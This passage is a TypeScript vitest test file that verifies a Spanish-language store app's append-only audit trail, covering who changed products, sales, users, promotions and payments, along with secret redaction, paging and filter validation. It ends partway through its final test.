import { createHash } from 'node:crypto';
import { eq, gt, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACTORES, MENSAJES_AUDITORIA, type EventoAuditoria, type PaginaAuditoria } from '../../domain/auditoria';
import { MENSAJES, mensajeCantidadMayorAlStock } from '../../domain/mensajes';
import { MENSAJES_PAGINACION } from '../../domain/paginacion-reglas';
import { auditoria, producto, sesion, usuario, venta } from '../db/schema';
import { vencerPagosPendientes } from '../pagos/vencimiento';
import { crearAppDePrueba, type AppDePrueba } from '../test/app-de-prueba';
import { crearCategoria, crearProducto, crearPromocion, crearUsuario, crearVenta } from '../test/fabricas';
import { imagenDePrueba, multipart } from '../test/multipart';
import { registrarEvento } from './auditoria';

let t: AppDePrueba;
let admin: Awaited<ReturnType<typeof crearUsuario>>;
let cliente: Awaited<ReturnType<typeof crearUsuario>>;
let cookieAdmin: string;
let cookieCliente: string;
let categoriaId: number;
/** Every password typed in this file and every session cookie: the last test looks for them in the trail. */
const secretos: string[] = [];

const NAVEGADOR = 'Prueba-Auditoria/1.0 (X11; Linux) Chromium';

beforeAll(async () => {
  t = await crearAppDePrueba();
  admin = await crearUsuario(t.db, { usuario: 'admin-auditoria', rol: 'ADMIN' });
  cliente = await crearUsuario(t.db, { usuario: 'cliente-auditoria' });
  cookieAdmin = await t.cookieDe(admin.usuario, admin.clave);
  cookieCliente = await t.cookieDe(cliente.usuario, cliente.clave);
  secretos.push(admin.clave, cliente.clave, cookieAdmin.split('=')[1]!, cookieCliente.split('=')[1]!);
  categoriaId = (await crearCategoria(t.db, 'Auditoría')).id;
});
afterAll(() => t.cerrar());

function pedir(method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload?: unknown, cookie = cookieAdmin) {
  return t.app.inject({ method, url, payload: payload as never, headers: { cookie, 'user-agent': NAVEGADOR } });
}

function guardarProducto(method: 'POST' | 'PUT', datos: Record<string, unknown>) {
  const cuerpo = multipart([{ nombre: 'producto', valor: JSON.stringify(datos) }]);
  return t.app.inject({ method, url: '/api/producto/with-image', payload: cuerpo.payload, headers: { ...cuerpo.headers, cookie: cookieAdmin, 'user-agent': NAVEGADOR } });
}

const ultimoId = async () => (await t.db.select({ id: sql<number>`coalesce(max(${auditoria.id}), 0)::int` }).from(auditoria))[0]!.id;

/** The events written since `desde` (an id from `ultimoId`), oldest first. */
const eventosDesde = (desde: number) => t.db.select().from(auditoria).where(gt(auditoria.id, desde)).orderBy(auditoria.id);

/** What any event of the admin's requests carries: who, from where. */
const porAdmin = () => ({ usuarioId: admin.id, usuario: 'admin-auditoria', direccion: '127.0.0.1', navegador: NAVEGADOR });

describe('products', () => {
  it('creation, a price and stock edit, stock loads, an image and the deletion each write their event, with before and after', async () => {
    const desde = await ultimoId();
    const codigo = 'AUD-LAPIZ';
    const creado = await guardarProducto('POST', { denominacion: 'Lápiz HB', marca: 'Staedtler', codigo, costo: 100, porcentaje: 50, stock: 10, descripcion: '', categoria: { id: categoriaId } });
    expect(creado.statusCode).toBe(201);
    const id = creado.json().id as number;

    const editado = await guardarProducto('PUT', { id, denominacion: 'Lápiz HB', marca: 'Staedtler', codigo, costo: 100, porcentaje: 80, stock: 7, descripcion: '', categoria: { id: categoriaId } });
    expect(editado.statusCode).toBe(200);
    // Saving it again unchanged writes nothing.
    expect((await guardarProducto('PUT', { id, denominacion: 'Lápiz HB', marca: 'Staedtler', codigo, costo: 100, porcentaje: 80, stock: 7, descripcion: '', categoria: { id: categoriaId } })).statusCode).toBe(200);

    expect((await pedir('PATCH', `/api/producto/${id}/stock?cantidad=5`)).statusCode).toBe(200);
    expect((await pedir('POST', '/api/producto/stock', { codigo, cantidad: 3 })).statusCode).toBe(200);
    const foto = multipart([{ nombre: 'archivo', valor: await imagenDePrueba('png'), archivo: 'foto.png', tipo: 'image/png' }]);
    const subida = await t.app.inject({ method: 'POST', url: `/api/producto/${id}/imagen`, payload: foto.payload, headers: { ...foto.headers, cookie: cookieAdmin, 'user-agent': NAVEGADOR } });
    expect(subida.statusCode).toBe(200);
    const imagen = subida.json().imagen as string;
    expect((await pedir('DELETE', `/api/producto/${id}/imagen`)).statusCode).toBe(200);
    // Removing an image that is not there changes nothing and writes nothing.
    expect((await pedir('DELETE', `/api/producto/${id}/imagen`)).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/producto/${id}`)).statusCode).toBe(204);

    const eventos = await eventosDesde(desde);
    expect(eventos.map((e) => e.accion)).toEqual([
      'producto.crear',
      'producto.editar',
      'producto.cargar-stock',
      'producto.cargar-stock',
      'producto.cambiar-imagen',
      'producto.cambiar-imagen',
      'producto.eliminar',
    ]);
    for (const e of eventos) expect(e).toMatchObject({ ...porAdmin(), entidad: 'producto', entidadId: id });
    expect(eventos[0]!.antes).toBeNull();
    expect(eventos[0]!.despues).toEqual({
      codigo,
      denominacion: 'Lápiz HB',
      marca: 'Staedtler',
      descripcion: '',
      categoriaId,
      imagen: null,
      costo: 100,
      porcentaje: 50,
      precio: 150,
      stock: 10,
    });
    expect(eventos[1]).toMatchObject({ antes: { porcentaje: 50, precio: 150, stock: 10 }, despues: { porcentaje: 80, precio: 180, stock: 7 } });
    expect(eventos[2]).toMatchObject({ antes: { stock: 7 }, despues: { stock: 12 }, detalle: { cantidad: 5 } });
    expect(eventos[3]).toMatchObject({ antes: { stock: 12 }, despues: { stock: 15 }, detalle: { cantidad: 3 } });
    expect(eventos[4]).toMatchObject({ antes: { imagen: null }, despues: { imagen } });
    expect(eventos[5]).toMatchObject({ antes: { imagen }, despues: { imagen: null } });
    expect(eventos[6]).toMatchObject({ antes: { codigo, precio: 180, stock: 15, imagen: null }, despues: null });
  });

  it('a save that fails (a repeated code) writes no event and changes nothing', async () => {
    const existente = await crearProducto(t.db, { codigo: 'AUD-REPETIDO' });
    const otro = await crearProducto(t.db, { codigo: 'AUD-OTRO', costo: 200, porcentaje: 50 });
    const desde = await ultimoId();
    const creado = await guardarProducto('POST', { denominacion: 'Copia', marca: '', codigo: existente.codigo, costo: 1, porcentaje: 1, stock: 1, descripcion: '', categoria: { id: categoriaId } });
    expect(creado.statusCode).toBe(409);
    // An edit that changes the price and the stock, then hits the repeated code inside the transaction.
    const editado = await guardarProducto('PUT', { id: otro.id, denominacion: 'Otro', marca: '', codigo: existente.codigo, costo: 999, porcentaje: 10, stock: 1, descripcion: '', categoria: { id: otro.categoriaId } });
    expect(editado.statusCode).toBe(409);
    // A load of an unknown code, a deletion of a missing product.
    expect((await pedir('POST', '/api/producto/stock', { codigo: 'NO-EXISTE', cantidad: 3 })).statusCode).toBe(404);
    expect((await pedir('DELETE', '/api/producto/999999')).statusCode).toBe(404);
    expect(await eventosDesde(desde)).toEqual([]);
    const [igual] = await t.db.select({ precio: producto.precio, stock: producto.stock }).from(producto).where(eq(producto.id, otro.id));
    expect(igual).toEqual({ precio: 300, stock: 10 });
  });

  it('a new category', async () => {
    const desde = await ultimoId();
    const r = await pedir('POST', '/api/categoria', { denominacion: 'Arte auditado' });
    expect(r.statusCode).toBe(201);
    expect(await eventosDesde(desde)).toMatchObject([{ ...porAdmin(), accion: 'categoria.crear', entidad: 'categoria', entidadId: r.json().id, despues: { denominacion: 'Arte auditado' } }]);
  });
});

describe('sales and their lines', () => {
  it('a sale created with lines, its lines added, changed and deleted, then concluded and deleted: one event each', async () => {
    const lapiz = await crearProducto(t.db, { costo: 100, porcentaje: 100, stock: 20 }); // $ 200
    const goma = await crearProducto(t.db, { costo: 50, porcentaje: 100, stock: 20 }); // $ 100
    const desde = await ultimoId();

    const creada = await pedir('POST', '/api/venta', { formaPago: 'EFECTIVO', user: { id: cliente.id }, detalleVentas: [{ cantidad: 2, producto: { id: lapiz.id } }] });
    expect(creada.statusCode).toBe(201);
    const ventaId = creada.json().id as number;
    // Lines change while the sale is pending: a concluded one keeps its amount (decision 044).
    const linea = await pedir('POST', '/api/detalleVenta', { cantidad: 1, producto: { id: goma.id }, venta: { id: ventaId } });
    expect(linea.statusCode).toBe(201);
    const lineaId = linea.json().id as number;
    expect((await pedir('PUT', `/api/detalleVenta/${lineaId}`, { cantidad: 3 })).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/detalleVenta/${lineaId}`)).statusCode).toBe(204);
    expect((await pedir('PUT', `/api/venta/${ventaId}`, { estadoVenta: 'CONCLUIDO', formaPago: 'QR', envio: 500 })).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/venta/${ventaId}`)).statusCode).toBe(204);

    const eventos = await eventosDesde(desde);
    expect(eventos.map((e) => `${e.accion} ${e.entidad} ${e.entidadId}`)).toEqual([
      `venta.crear venta ${ventaId}`,
      `detalleVenta.agregar detalleVenta ${lineaId}`,
      `detalleVenta.editar detalleVenta ${lineaId}`,
      `detalleVenta.eliminar detalleVenta ${lineaId}`,
      `venta.editar venta ${ventaId}`,
      `venta.eliminar venta ${ventaId}`,
    ]);
    for (const e of eventos) expect(e).toMatchObject(porAdmin());
    const [crear, agregar, cambiar, quitar, editar, eliminar] = eventos;
    expect(crear!.despues).toMatchObject({
      estadoVenta: 'PENDIENTE',
      formaPago: 'EFECTIVO',
      envio: 0,
      total: 400,
      userId: cliente.id,
      lineas: [{ productoId: lapiz.id, cantidad: 2, precioAplicado: 200 }],
    });
    expect(editar).toMatchObject({
      antes: { estadoVenta: 'PENDIENTE', formaPago: 'EFECTIVO', envio: 0, total: 400 },
      despues: { estadoVenta: 'CONCLUIDO', formaPago: 'QR', envio: 500, total: 900 },
    });
    expect(agregar).toMatchObject({ antes: { totalVenta: 400 }, despues: { ventaId, productoId: goma.id, cantidad: 1, precioAplicado: 100, totalVenta: 500 } });
    expect(cambiar).toMatchObject({ antes: { cantidad: 1, totalVenta: 500 }, despues: { cantidad: 3, totalVenta: 700 }, detalle: { ventaId } });
    expect(quitar).toMatchObject({ antes: { ventaId, productoId: goma.id, cantidad: 3, totalVenta: 700 }, despues: { totalVenta: 400 } });
    expect(eliminar).toMatchObject({
      antes: { estadoVenta: 'CONCLUIDO', total: 900, lineas: [{ productoId: lapiz.id, cantidad: 2, precioAplicado: 200 }] },
      detalle: { stockDevuelto: false },
    });
  });

  it('a line without stock, a sale created with a line without stock and an empty sale saved write nothing', async () => {
    const escaso = await crearProducto(t.db, { stock: 1 });
    const vacia = await pedir('POST', '/api/venta', { formaPago: 'EFECTIVO' });
    const ventaId = vacia.json().id as number;
    const desde = await ultimoId();
    const linea = await pedir('POST', '/api/detalleVenta', { cantidad: 2, producto: { id: escaso.id }, venta: { id: ventaId } });
    expect(linea.statusCode).toBe(409);
    expect(linea.json().message).toBe(mensajeCantidadMayorAlStock(1));
    const ventas = await t.db.$count(venta);
    const conLinea = await pedir('POST', '/api/venta', { detalleVentas: [{ cantidad: 5, producto: { id: escaso.id } }] });
    expect(conLinea.statusCode).toBe(409);
    expect(await t.db.$count(venta)).toBe(ventas);
    const guardada = await pedir('PUT', `/api/venta/${ventaId}`, { estadoVenta: 'CONCLUIDO', formaPago: 'EFECTIVO', envio: 0 });
    expect(guardada.json().message).toBe(MENSAJES.ventaSinDetalles);
    expect(await eventosDesde(desde)).toEqual([]);
  });

  it('a promotion added to a sale, and a pending sale deleted gives its stock back', async () => {
    const a = await crearProducto(t.db, { stock: 10 });
    const promo = await crearPromocion(t.db, { precioPromocional: 1000, detalles: [{ productoId: a.id, cantidad: 2 }] });
    const ventaId = (await pedir('POST', '/api/venta', { formaPago: 'EFECTIVO', envio: 100 })).json().id as number;
    const desde = await ultimoId();
    expect((await pedir('PUT', `/api/promocion/venta/agregar-promocion/${ventaId}/${promo.id}`)).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/venta/${ventaId}`)).statusCode).toBe(204);
    expect(await eventosDesde(desde)).toMatchObject([
      {
        accion: 'venta.agregar-promocion',
        entidadId: ventaId,
        antes: { total: 100 },
        despues: { total: 1100 },
        detalle: { promocionId: promo.id, lineas: [{ productoId: a.id, cantidad: 2, precioAplicado: 500 }] },
      },
      { accion: 'venta.eliminar', entidadId: ventaId, antes: { estadoVenta: 'PENDIENTE', lineas: [{ productoId: a.id, cantidad: 2, promocionId: promo.id }] }, detalle: { stockDevuelto: true } },
    ]);
  });

  it('a bulk delete writes one event listing the sales; an empty range writes none', async () => {
    const p = await crearProducto(t.db, { stock: 10 });
    const dia = new Date('2031-05-10T15:00:00Z');
    const v1 = await crearVenta(t.db, { userId: cliente.id, formaPago: 'EFECTIVO', fecha: dia, lineas: [{ productoId: p.id, cantidad: 1 }] });
    const v2 = await crearVenta(t.db, { userId: null, formaPago: 'EFECTIVO', estadoVenta: 'CONCLUIDO', fecha: dia, lineas: [{ productoId: p.id, cantidad: 2 }] });
    const desde = await ultimoId();
    expect((await pedir('DELETE', '/api/venta/eliminar-entre-fechas?desde=2031-05-09&hasta=2031-05-11')).json()).toBe(true);
    expect((await pedir('DELETE', '/api/venta/eliminar-entre-fechas?desde=2031-05-09&hasta=2031-05-11')).json()).toBe(false);
    expect(await eventosDesde(desde)).toMatchObject([
      {
        ...porAdmin(),
        accion: 'venta.eliminar-entre-fechas',
        entidad: 'venta',
        entidadId: null,
        antes: { cantidadVentas: 2, total: v1.total + v2.total },
        detalle: { desde: '2031-05-09', hasta: '2031-05-11', ventas: [v1.id, v2.id], ventasConStockDevuelto: [v1.id] },
      },
    ]);
  });

  it("a customer's cart order is written with the customer as the actor; one without stock writes nothing", async () => {
    const p = await crearProducto(t.db, { costo: 100, porcentaje: 10, stock: 3 });
    const desde = await ultimoId();
    const r = await pedir('POST', '/api/pedido', { lineas: [{ productoId: p.id, cantidad: 2 }], formaPago: 'EFECTIVO', envio: 1 }, cookieCliente);
    expect(r.statusCode).toBe(201);
    expect((await pedir('POST', '/api/pedido', { lineas: [{ productoId: p.id, cantidad: 2 }], formaPago: 'EFECTIVO', envio: 0 }, cookieCliente)).statusCode).toBe(409);
    expect(await eventosDesde(desde)).toMatchObject([
      {
        usuarioId: cliente.id,
        usuario: 'cliente-auditoria',
        accion: 'venta.pedido',
        entidadId: r.json().id,
        despues: { formaPago: 'EFECTIVO', conEnvio: true, total: 220, lineas: [{ productoId: p.id, cantidad: 2, precioAplicado: 110 }] },
      },
    ]);
  });
});

describe('users and roles', () => {
  it('creation, a role change, a password change (without the password) and the deletion', async () => {
    const desde = await ultimoId();
    const creado = await pedir('POST', '/api/user', { usuario: 'nuevo.auditado', clave: 'tijera-azul-grande-9', rol: 'USER' });
    expect(creado.statusCode).toBe(201);
    const id = creado.json().id as number;
    expect((await pedir('PUT', `/api/user/${id}`, { rol: 'ADMIN', mensaje: 'hola' })).statusCode).toBe(200);
    expect((await pedir('PUT', `/api/user/${id}`, { clave: 'regla-metalica-30cm' })).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/user/${id}`)).statusCode).toBe(204);
    secretos.push('tijera-azul-grande-9', 'regla-metalica-30cm');

    expect(await eventosDesde(desde)).toMatchObject([
      { ...porAdmin(), accion: 'usuario.crear', entidad: 'usuario', entidadId: id, antes: null, despues: { usuario: 'nuevo.auditado', rol: 'USER', mensaje: null } },
      { accion: 'usuario.editar', entidadId: id, antes: { mensaje: null }, despues: { mensaje: 'hola' } },
      { accion: 'usuario.cambiar-rol', entidadId: id, antes: { rol: 'USER' }, despues: { rol: 'ADMIN' } },
      { accion: 'usuario.cambiar-clave', entidadId: id, antes: null, despues: null, detalle: null },
      { accion: 'usuario.eliminar', entidadId: id, antes: { usuario: 'nuevo.auditado', rol: 'ADMIN' } },
    ]);
  });

  it("a customer's own password change names the customer; a wrong current password writes nothing", async () => {
    const propio = await crearUsuario(t.db, { usuario: 'cambia.su.clave' });
    const cookie = await t.cookieDe(propio.usuario, propio.clave);
    secretos.push(propio.clave, cookie.split('=')[1]!, 'compas-de-metal-77', 'no-es-la-clave-1');
    const desde = await ultimoId();
    expect((await pedir('PUT', `/api/user/${propio.id}`, { clave: 'compas-de-metal-77', claveActual: 'no-es-la-clave-1' }, cookie)).statusCode).toBe(400);
    expect((await pedir('PUT', `/api/user/${propio.id}`, { clave: 'compas-de-metal-77', claveActual: propio.clave }, cookie)).statusCode).toBe(200);
    expect(await eventosDesde(desde)).toMatchObject([{ usuarioId: propio.id, usuario: 'cambia.su.clave', accion: 'usuario.cambiar-clave', entidadId: propio.id }]);
  });

  it('the complete user form: role and name before and after, personal fields named but not copied', async () => {
    const desde = await ultimoId();
    const r = await pedir('POST', '/api/usuario-completo', {
      persona: { nombre: 'Carla', apellido: 'Díaz', telefono: '2613334444', email: 'carla@example.com' },
      domicilio: { calle: 'España', numero: '900' },
      usuario: { usuario: 'carla.auditada', clave: 'cuaderno-rayado-7' },
      rol: 'USER',
    });
    expect(r.statusCode).toBe(201);
    const id = r.json().usuario.id as number;
    const editado = await pedir('PUT', `/api/usuario-completo/${id}`, {
      persona: { nombre: 'Carla', apellido: 'Díaz', telefono: '2619998888', email: 'carla@example.com' },
      domicilio: { calle: 'Mitre', numero: '900' },
      usuario: { usuario: 'carla.d', clave: 'goma-de-borrar-55' },
      rol: 'ADMIN',
    });
    expect(editado.statusCode).toBe(200);
    secretos.push('cuaderno-rayado-7', 'goma-de-borrar-55');
    const eventos = await eventosDesde(desde);
    expect(eventos).toMatchObject([
      { accion: 'usuario.crear', entidadId: id, despues: { usuario: 'carla.auditada', rol: 'USER' } },
      { accion: 'usuario.editar', entidadId: id, antes: { usuario: 'carla.auditada' }, despues: { usuario: 'carla.d' }, detalle: { camposPersonales: ['telefono', 'calle'] } },
      { accion: 'usuario.cambiar-rol', antes: { rol: 'USER' }, despues: { rol: 'ADMIN' } },
      { accion: 'usuario.cambiar-clave' },
    ]);
    const texto = JSON.stringify(eventos);
    for (const personal of ['2619998888', '2613334444', 'Mitre', 'España', 'carla@example.com', 'Díaz']) expect(texto).not.toContain(personal);
  });

  it("a registration is the new customer's own event; a taken name writes nothing", async () => {
    const cuerpo = (nombre: string) => ({
      persona: { nombre: 'Sofía', apellido: 'Gómez', telefono: '2615556666', email: 'sofi@example.com' },
      domicilio: { calle: 'Belgrano', numero: '1200' },
      usuario: { usuario: nombre, clave: 'mochila-roja-2024' },
    });
    secretos.push('mochila-roja-2024');
    const desde = await ultimoId();
    const r = await t.app.inject({ method: 'POST', url: '/api/registro', payload: cuerpo('sofi.auditada'), headers: { 'user-agent': NAVEGADOR } });
    expect(r.statusCode).toBe(201);
    secretos.push(r.cookies.find((c) => c.name === 'sesion')!.value);
    expect((await t.app.inject({ method: 'POST', url: '/api/registro', payload: cuerpo('sofi.auditada') })).statusCode).toBe(409);
    expect((await pedir('POST', '/api/user', { usuario: 'sofi.auditada', clave: 'otra-clave-larga-1' })).statusCode).toBe(409);
    expect(await eventosDesde(desde)).toMatchObject([
      { usuarioId: r.json().data.id, usuario: 'sofi.auditada', accion: 'usuario.registrar', entidadId: r.json().data.id, despues: { usuario: 'sofi.auditada', rol: 'USER' }, navegador: NAVEGADOR },
    ]);
  });
});

describe('promotions', () => {
  it('creation, its lines added (twice: the quantity before and after) and removed, and its deletion', async () => {
    const p = await crearProducto(t.db);
    const desde = await ultimoId();
    const creada = await pedir('POST', '/api/promocion', {
      denominacion: 'Vuelta al cole',
      descripcion: 'Útiles',
      precioPromocional: '1.500',
      fechaInicio: '2030-03-01',
      fechaFin: '2030-03-31',
    });
    expect(creada.statusCode).toBe(201);
    const promocionId = creada.json().id as number;
    const linea = await pedir('POST', '/api/detallePromocion', { producto: { id: p.id }, cantidad: 2, promocion: { id: promocionId } });
    const lineaId = linea.json().id as number;
    await pedir('POST', '/api/detallePromocion', { producto: { id: p.id }, cantidad: 1, promocion: { id: promocionId } });
    expect((await pedir('DELETE', `/api/detallePromocion/${lineaId}`)).statusCode).toBe(204);
    await pedir('POST', '/api/detallePromocion', { producto: { id: p.id }, cantidad: 4, promocion: { id: promocionId } });
    expect((await pedir('DELETE', `/api/promocion/${promocionId}`)).statusCode).toBe(204);
    expect((await pedir('DELETE', `/api/promocion/${promocionId}`)).statusCode).toBe(404);

    const eventos = await eventosDesde(desde);
    expect(eventos).toMatchObject([
      {
        accion: 'promocion.crear',
        entidadId: promocionId,
        despues: { denominacion: 'Vuelta al cole', precioPromocional: 1500, fechaInicio: '2030-03-01T03:00:00.000Z', fechaFin: '2030-04-01T02:59:59.999Z' },
      },
      { accion: 'detallePromocion.agregar', entidadId: lineaId, antes: null, despues: { promocionId, productoId: p.id, cantidad: 2 } },
      { accion: 'detallePromocion.agregar', entidadId: lineaId, antes: { cantidad: 2 }, despues: { cantidad: 3 } },
      { accion: 'detallePromocion.eliminar', entidadId: lineaId, antes: { promocionId, productoId: p.id, cantidad: 3 } },
      { accion: 'detallePromocion.agregar', despues: { cantidad: 4 } },
      { accion: 'promocion.eliminar', entidadId: promocionId, antes: { denominacion: 'Vuelta al cole', precioPromocional: 1500, lineas: [{ productoId: p.id, cantidad: 4 }] } },
    ]);
    for (const e of eventos) expect(e).toMatchObject(porAdmin());
  });
});

describe('payments', () => {
  it("Mercado Pago's notification of an approval is written once, by 'Mercado Pago' with no user", async () => {
    const p = await crearProducto(t.db, { costo: 800, porcentaje: 25, stock: 5 });
    const v = await crearVenta(t.db, { userId: cliente.id, lineas: [{ productoId: p.id, cantidad: 2 }] });
    const preferencia = await pedir('POST', '/api/mercadoPago/createPreference', { id: v.id }, cookieCliente);
    expect(preferencia.statusCode).toBe(200);
    const ruta = new URL(preferencia.json().init_point as string).pathname;
    const desde = await ultimoId();
    // The simulated checkout posts a signed notification to the webhook, as Mercado Pago would.
    const elegir = () => t.app.inject({ method: 'POST', url: ruta, headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'accion=aprobar' });
    expect((await elegir()).statusCode).toBe(303);
    // The return page's check asks again: same news, no second event.
    expect((await pedir('GET', `/api/mercadoPago/estado/${v.id}`, undefined, cookieCliente)).json().estadoPago).toBe('APROBADO');
    const eventos = await eventosDesde(desde);
    expect(eventos).toMatchObject([
      {
        usuarioId: null,
        usuario: ACTORES.mercadoPago,
        accion: 'venta.registrar-pago',
        entidad: 'venta',
        entidadId: v.id,
        direccion: '127.0.0.1',
        antes: { estadoPago: 'PENDIENTE', pagoId: null },
        despues: { estadoPago: 'APROBADO', pagoId: expect.any(String) },
        detalle: { monto: 2000 },
      },
    ]);
  });

  it("an expired payment is the 'Sistema''s event", async () => {
    const p = await crearProducto(t.db, { stock: 5 });
    const v = await crearVenta(t.db, { userId: cliente.id, fecha: new Date(Date.now() - 2 * 3_600_000), lineas: [{ productoId: p.id, cantidad: 2 }] });
    const desde = await ultimoId();
    expect((await vencerPagosPendientes(t.db, undefined, { minutos: 60 })).vencidas).toContain(v.id);
    expect(await eventosDesde(desde)).toMatchObject([
      { usuarioId: null, usuario: ACTORES.sistema, accion: 'venta.vencer-pago', entidadId: v.id, antes: { estadoPago: 'PENDIENTE' }, despues: { estadoPago: 'VENCIDO' }, detalle: { stockDevuelto: true } },
    ]);
  });
});

describe('append-only', () => {
  it('the database refuses UPDATE, DELETE and TRUNCATE of the trail, even of no row, and the rows stay', async () => {
    await registrarEvento(t.db, { usuario: null, direccion: null, navegador: null }, { accion: 'categoria.crear', entidadId: 1, despues: { denominacion: 'x' } });
    const antes = await t.db.select().from(auditoria).orderBy(auditoria.id);
    const intentos = [
      () => t.db.update(auditoria).set({ usuario: 'otro' }).where(eq(auditoria.id, antes[0]!.id)),
      () => t.db.update(auditoria).set({ usuario: 'otro' }).where(sql`false`),
      () => t.db.delete(auditoria).where(eq(auditoria.id, antes[0]!.id)),
      () => t.db.delete(auditoria),
      () => t.db.execute(sql`truncate auditoria`),
    ];
    for (const intento of intentos) {
      await expect(intento()).rejects.toSatisfy((e: unknown) => /solo admite agregar eventos/.test(String((e as { cause?: unknown }).cause ?? e)));
    }
    expect(await t.db.select().from(auditoria).orderBy(auditoria.id)).toEqual(antes);
  });

  it('deleting a user, a product or a sale never touches the events about them', async () => {
    // No foreign keys: an ON DELETE action would have to change the row, and the trigger would refuse it.
    const u = await crearUsuario(t.db, { usuario: 'se.va' });
    const desde = await ultimoId();
    expect((await pedir('PUT', `/api/user/${u.id}`, { rol: 'ADMIN' })).statusCode).toBe(200);
    expect((await pedir('DELETE', `/api/user/${u.id}`)).statusCode).toBe(204);
    expect(await t.db.$count(usuario, eq(usuario.id, u.id))).toBe(0);
    expect((await eventosDesde(desde)).map((e) => e.accion)).toEqual(['usuario.cambiar-rol', 'usuario.eliminar']);
  });
});

describe('GET /api/auditoria', () => {
  const listar = async (query: string, cookie = cookieAdmin) => {
    const r = await pedir('GET', `/api/auditoria${query}`, undefined, cookie);
    expect(r.statusCode, r.body).toBe(200);
    return r.json() as PaginaAuditoria;
  };

  /** Events at known instants, written as the app writes them plus a date. */
  async function sembrar(filas: Array<{ fecha: string; usuario: string; usuarioId: number | null; accion: string; entidad: string; entidadId: number }>) {
    await t.db.insert(auditoria).values(filas.map((f) => ({ ...f, fecha: new Date(f.fecha) })));
  }

  beforeAll(async () => {
    await sembrar([
      // 23:30 of 2030-02-28 in Mendoza (02:30 UTC of March 1st).
      { fecha: '2030-03-01T02:30:00.000Z', usuario: 'ana.filtro', usuarioId: 9001, accion: 'producto.editar', entidad: 'producto', entidadId: 77 },
      // 00:00 of 2030-03-01 in Mendoza.
      { fecha: '2030-03-01T03:00:00.000Z', usuario: 'José.Filtro', usuarioId: 9002, accion: 'producto.crear', entidad: 'producto', entidadId: 78 },
      { fecha: '2030-03-02T02:59:59.999Z', usuario: 'ana.filtro', usuarioId: 9001, accion: 'venta.eliminar', entidad: 'venta', entidadId: 77 },
      { fecha: '2030-03-02T03:00:00.000Z', usuario: 'Mercado Pago', usuarioId: null, accion: 'venta.registrar-pago', entidad: 'venta', entidadId: 79 },
    ]);
  });

  it('filters by user (name at the time, no case or accents, or id), entity, id, action and Mendoza days; newest first', async () => {
    const ids = (p: PaginaAuditoria) => p.items.map((e) => `${e.accion} ${e.entidadId}`);
    const marzo = '&desde=2030-02-28&hasta=2030-03-02';
    expect(ids(await listar('?desde=2030-02-28&hasta=2030-03-02'))).toEqual(['venta.registrar-pago 79', 'venta.eliminar 77', 'producto.crear 78', 'producto.editar 77']);
    expect(ids(await listar('?desde=2030-03-01&hasta=2030-03-01'))).toEqual(['venta.eliminar 77', 'producto.crear 78']);
    expect(ids(await listar('?desde=2030-02-28&hasta=2030-02-28'))).toEqual(['producto.editar 77']);
    expect(ids(await listar('?desde=2030-03-02'))).toEqual(['venta.registrar-pago 79']);
    expect(ids(await listar(`?usuario=ANA${marzo}`))).toEqual(['venta.eliminar 77', 'producto.editar 77']);
    expect(ids(await listar(`?usuario=jose${marzo}`))).toEqual(['producto.crear 78']);
    expect(ids(await listar('?usuarioId=9002'))).toEqual(['producto.crear 78']);
    expect(ids(await listar(`?usuario=mercado${marzo}`))).toEqual(['venta.registrar-pago 79']);
    expect(ids(await listar(`?entidad=producto${marzo}`))).toEqual(['producto.crear 78', 'producto.editar 77']);
    expect(ids(await listar(`?entidad=venta&entidadId=77${marzo}`))).toEqual(['venta.eliminar 77']);
    expect(ids(await listar(`?accion=producto.editar&usuario=ana${marzo}`))).toEqual(['producto.editar 77']);
    expect(ids(await listar(`?accion=usuario.crear${marzo}`))).toEqual([]);
    // Without filters, by date, newest first.
    const todo = await listar('?porPagina=200');
    const fechas = todo.items.map((e) => e.fecha);
    expect([...fechas].sort().reverse()).toEqual(fechas);
  });

  it('pages on the server, with the total', async () => {
    const marzo = '&desde=2030-02-28&hasta=2030-03-02';
    const p1 = await listar(`?porPagina=3&pagina=1${marzo}`);
    const p2 = await listar(`?porPagina=3&pagina=2${marzo}`);
    expect(p1).toMatchObject({ total: 4, pagina: 1, porPagina: 3 });
    expect(p1.items).toHaveLength(3);
    expect(p2.items.map((e) => e.entidadId)).toEqual([77]);
    expect((await listar(`?porPagina=3&pagina=5${marzo}`)).items).toEqual([]);
    const porDefecto = await listar('');
    expect(porDefecto.porPagina).toBe(50);
  });

  it('answers each event whole: who, from where, what, before and after', async () => {
    const desde = await ultimoId();
    const p = await crearProducto(t.db, { costo: 100, porcentaje: 10 });
    await pedir('PATCH', `/api/producto/${p.id}/stock?cantidad=4`);
    const [evento] = (await listar(`?entidad=producto&entidadId=${p.id}`)).items;
    expect(evento!.id).toBeGreaterThan(desde);
    expect(evento).toEqual({
      id: expect.any(Number),
      fecha: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      usuarioId: admin.id,
      usuario: 'admin-auditoria',
      accion: 'producto.cargar-stock',
      entidad: 'producto',
      entidadId: p.id,
      direccion: '127.0.0.1',
      navegador: NAVEGADOR,
      antes: { stock: 10 },
      despues: { stock: 14 },
      detalle: { cantidad: 4 },
    } satisfies EventoAuditoria);
  });

  it('refuses bad filters with Spanish messages', async () => {
    const mensaje = async (query: string) => {
      const r = await pedir('GET', `/api/auditoria${query}`);
      expect(r.statusCode).toBe(400);
      return r.json().message as string;
    };
    expect(await mensaje('?accion=producto.robar')).toBe(MENSAJES_AUDITORIA.accionInvalida);
    expect(await mensaje('?entidad=sesion')).toBe(MENSAJES_AUDITORIA.entidadInvalida);
    expect(await mensaje('?entidadId=abc')).toBe(MENSAJES_AUDITORIA.idInvalido);
    expect(await mensaje('?desde=2030-02-30')).toBe(MENSAJES.fechaInvalida);
    expect(await mensaje('?desde=2030-03-02&hasta=2030-03-01')).toBe(MENSAJES.rangoFechasInvertido);
    expect(await mensaje('?porPagina=201')).toBe(MENSAJES_PAGINACION.porPaginaInvalido(200));
    expect(await mensaje('?pagina=0')).toBe(MENSAJES_PAGINACION.paginaInvalida);
